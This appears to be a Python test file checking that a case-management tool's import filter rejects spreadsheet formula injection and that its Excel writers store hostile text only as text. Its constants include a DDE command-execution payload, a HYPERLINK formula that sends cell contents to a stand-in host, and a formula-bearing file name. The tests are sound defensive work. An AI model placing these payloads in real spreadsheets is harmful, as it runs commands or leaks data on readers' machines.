"""Issue 13, finding 1: free text never becomes a formula, hyperlink or DDE command in any file the
product writes (case workbook, update sheet, Board report, integrated chronology), and the import
filter refuses text a spreadsheet would take as active. Each file is inspected as XML: its <f>
elements, <hyperlink> elements and relationship parts."""
from __future__ import annotations

import dataclasses
import datetime as dt
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from bad_returns import make_case
from agency_return import fill, sheet_for
from tracker.chronology import Entry
from workbook.case.create import write_new
from workbook.chronology.write import write_integrated
from workbook.commands.demo import run_demo
from workbook.commands.import_returns import import_returns, outcome_text
from workbook.commands.issue_updates import issue_updates
from workbook.commands.report import build_report
from workbook.xlsx.patch import Patch
from workbook.xlsx.untrusted import looks_like_injection

TODAY = dt.date(2026, 11, 27)  # the date the demo case is built on in the import tests
LATER = TODAY + dt.timedelta(days=10)

ARRAY_LINK = '{=HYPERLINK("http://example.invalid/?leak="&B3)}'
DDE = "=cmd|' /C calc'!A0"
MAILTO = "mailto:x@example.invalid"
AT_CALL = "@SUM(1)"
HOSTILE = (ARRAY_LINK, DDE, MAILTO, AT_CALL, "http://example.invalid/x", "+HYPERLINK(\"http://example.invalid\")")
MARKERS = ("example.invalid", "cmd|", "SUM(1)", "HYPERLINK")


def active_content(path: Path) -> dict[str, list[str]]:
    """Per worksheet part: every formula text, every hyperlink, and any hyperlink/external-link part."""
    found: dict[str, list[str]] = {}
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            data = z.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                hits = re.findall(r"<f\b[^>]*>(.*?)</f>", data, re.S) + re.findall(r"<hyperlink\b[^>]*>", data)
                if hits:
                    found[name] = hits
            if name.endswith(".rels") and "relationships/hyperlink" in data:
                found.setdefault(name, []).append("hyperlink relationship")
            if name.startswith("xl/externalLinks/"):
                found.setdefault(name, []).append("external link part")
    return found


def hostile_hits(path: Path) -> dict[str, list[str]]:
    """The active content that carries attacker text: the product's own formulas carry none, its
    own links (the update sheet's "Go to the Updates sheet") point inside the file, never outward."""
    out = {}
    for part, hits in active_content(path).items():
        own_link = lambda h: h.startswith("<hyperlink") and "r:id" not in h and "example" not in h  # noqa: E731
        bad = [h for h in hits if (h.startswith("<hyperlink") and not own_link(h)) or "relationship" in h
               or "part" in h or (not h.startswith("<") and any(m in h for m in MARKERS))]
        if bad:
            out[part] = bad
    return out


def texts(path: Path) -> set[str]:
    wb = openpyxl.load_workbook(path)
    return {str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}


@pytest.mark.parametrize("text", [ARRAY_LINK, DDE, AT_CALL, '+HYPERLINK("http://example.invalid")',
                                  "{ =1+1}", "-SUM(A1:A3)"])
def test_the_import_filter_refuses_active_text(text):
    assert looks_like_injection(text)


@pytest.mark.parametrize("text", [MAILTO, "- chased twice, no reply", "+ 2 more sessions booked", "@ the hub",
                                  "{draft} agreed", "Review (draft) done"])
def test_the_import_filter_lets_plain_text_through(text):
    assert not looks_like_injection(text)


def test_signed_returns_with_active_text_leave_no_live_content(tmp_path):
    case = run_demo(tmp_path / "case", TODAY).path
    police = sheet_for(issue_updates(case, tmp_path / "out", today=TODAY), "Police")
    aid = police.actions[0]
    backs = {}
    for i, text in enumerate((ARRAY_LINK, DDE, MAILTO, AT_CALL)):
        # the return's own file name is hostile too: it goes into the Source column
        name = f'=HYPERLINK("http:example.invalid") {i}.xlsx' if text == MAILTO else f"police-{i}.xlsx"
        backs[text] = fill(police.path, tmp_path / name, {aid: {
            "status": "in progress", "progress": text, "date": dt.datetime(2026, 12, 1 + i)}})
    result = import_returns(case, list(backs.values()), today=LATER)
    states = [f.state for f in result.files]
    assert states == ["rejected", "rejected", "applied", "rejected"], outcome_text(result)
    report = build_report(case, tmp_path / "report.xlsx", today=LATER).path
    for written in (case, report, *(case.parent / "returns").iterdir()):
        if written.suffix == ".xlsx" and written.parent.name != "returns":
            assert hostile_hits(written) == {}, written
    assert active_content(report) == {}, "the Board report holds no formula or link at all"
    shown = texts(report)
    assert any(MAILTO in t for t in shown), "the accepted text survives verbatim, as text"
    name = backs[MAILTO].name
    assert any(t.startswith(name) for t in shown), "the return's file name is text in the Source column"
    assert any(t.startswith(name) for t in texts(case))


def test_every_format_writes_hostile_text_as_text(tmp_path):
    """Defence in depth: whatever reaches a writer, the writer makes it text (case build, update
    sheet, Board report, integrated chronology, patched cell)."""
    base = make_case()
    actions = [dict(a, action=HOSTILE[i % len(HOSTILE)], responsible=HOSTILE[(i + 1) % len(HOSTILE)],
                    progress=HOSTILE[(i + 2) % len(HOSTILE)]) for i, a in enumerate(base.actions)]
    case_path = tmp_path / "case.xlsx"
    write_new(case_path, dataclasses.replace(base, case_name=ARRAY_LINK[:30], actions=actions))
    sheets = issue_updates(case_path, tmp_path / "out", today=TODAY)
    report = build_report(case_path, tmp_path / "report.xlsx", today=TODAY).path
    entries = [Entry(date=dt.date(2026, 1, 1 + i), date_text="", approximate=False, time="", family=t, event=t,
                     agency="Police", action=t, child_seen="", note=t, source_file=t, source_row=5, detail=t)
               for i, t in enumerate(HOSTILE)]
    chron = write_integrated(tmp_path / "chron.xlsx", entries, case_name=DDE)
    patched = tmp_path / "patched.xlsx"
    p = Patch(report)
    p.set_cells("Summary", {f"Z{i + 1}": t for i, t in enumerate(HOSTILE)})
    p.save(patched)
    for written in (case_path, *(s.path for s in sheets), report, chron, patched):
        assert hostile_hits(written) == {}, written
        assert set(HOSTILE) <= texts(written) or written in [s.path for s in sheets], written
    for written in (report, chron, patched):
        assert active_content(written) == {}, written
